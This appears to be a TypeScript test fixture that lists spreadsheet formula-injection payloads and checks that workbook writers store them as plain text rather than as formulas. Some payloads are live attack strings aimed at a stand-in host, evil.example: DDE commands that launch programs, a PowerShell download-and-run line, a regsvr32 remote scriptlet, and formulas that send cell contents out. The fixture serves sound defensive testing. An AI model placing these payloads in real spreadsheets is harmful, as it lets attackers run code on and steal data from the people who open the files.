import ExcelJS from "exceljs";

/**
 * Text that a spreadsheet might take for a formula (OWASP "CSV injection", which applies to any
 * cell a program writes): every trigger Excel, WPS and LibreOffice act on (`=`, `+`, `-`, `@`,
 * the same after a tab, a line break or a space) and their full-width forms, in front of bodies
 * that compute, link out, fetch or launch (DDE). Any writer of workbook cells — the report, the
 * template, the review sheets of the web page and the task pane — is tested against all of them:
 * none may come back as a formula, each must come back as the very text.
 */
const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " ="] as const;

const BODIES = [
  "1+1",
  "SUM(1,1)",
  'HYPERLINK("http://evil.example/?q="&A1,"点我")',
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget evil.example/s.ps1)'!A0",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
  'DDE("cmd";"/C calc";"!A0")A0',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMAGE("http://evil.example/x.png")',
  'INDIRECT("A1")',
  "2+5+cmd|' /C calc'!A0",
  "A1",
  "1/0",
  '"杭州"&"公司"',
  "ROW()",
  "NOW()",
  'INFO("directory")',
  'CELL("filename")',
  'EXEC("calc")',
  "1",
  "杭州某某有限公司",
] as const;

/** Payloads a list of triggers cannot make: a bare trigger, chained formulas, tricks with invisible characters. */
const SINGLES = ["=", "+", "-", "@", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1;=2+2", "=\u200b1+1", "\u00a0=1+1", "'=1+1", "=-+@1"] as const;

export const FORMULA_PAYLOADS: readonly string[] = [...TRIGGERS.flatMap((t) => BODIES.map((b) => `${t}${b}`)), ...SINGLES];

export interface FormulaFinding {
  readonly sheet: string;
  readonly address: string;
  readonly formula: string;
}

/** Every formula cell in a written workbook (read back as Excel would open it); a writer of data must give none. */
export async function formulasIn(xlsx: ExcelJS.Buffer | string): Promise<{ formulas: FormulaFinding[]; texts: Set<string> }> {
  const wb = new ExcelJS.Workbook();
  if (typeof xlsx === "string") await wb.xlsx.readFile(xlsx);
  else await wb.xlsx.load(xlsx);
  const formulas: FormulaFinding[] = [];
  const texts = new Set<string>();
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas.push({ sheet: ws.name, address: cell.address, formula: cell.formula });
        if (typeof cell.value === "string") texts.add(cell.value);
      }),
    );
  }
  return { formulas, texts };
}
